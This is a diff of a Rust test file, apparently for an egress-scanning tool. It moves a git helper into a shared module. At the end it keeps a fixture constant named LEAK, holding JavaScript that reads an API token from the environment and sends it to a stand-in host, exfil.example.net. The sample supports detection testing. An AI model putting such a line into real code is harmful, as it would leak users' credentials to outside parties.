@@ -6,7 +6,7 @@
 use std::path::Path;
 use std::time::Duration;
 
-use crate::common::{egress_scan, fixture};
+use crate::common::{egress_scan, fixture, git};
 
 /// Not a performance bound: a run that reads a FIFO or a device would never
 /// end, and this keeps such a regression from hanging the suite.
@@ -236,29 +236,6 @@ fn diff_and_baseline_refuse_shard_reports_and_other_schemas() {
             .unwrap();
         assert_eq!(out.status.code(), Some(2), "{}", baseline.display());
     }
-}
-
-fn git(dir: &Path, args: &[&str]) {
-    let out = std::process::Command::new("git")
-        .args([
-            "-c",
-            "user.name=t",
-            "-c",
-            "user.email=t@example.com",
-            "-c",
-            "commit.gpgsign=false",
-        ])
-        .args(args)
-        .current_dir(dir)
-        .env("GIT_CONFIG_NOSYSTEM", "1")
-        .env("GIT_CONFIG_GLOBAL", "/dev/null")
-        .output()
-        .expect("git runs");
-    assert!(
-        out.status.success(),
-        "git {args:?}: {}",
-        String::from_utf8_lossy(&out.stderr)
-    );
 }
 
 const LEAK: &str = "const k = process.env.API_TOKEN;\nexport const send = () => fetch(`https://exfil.example.net/c?token=${k}`);\n";
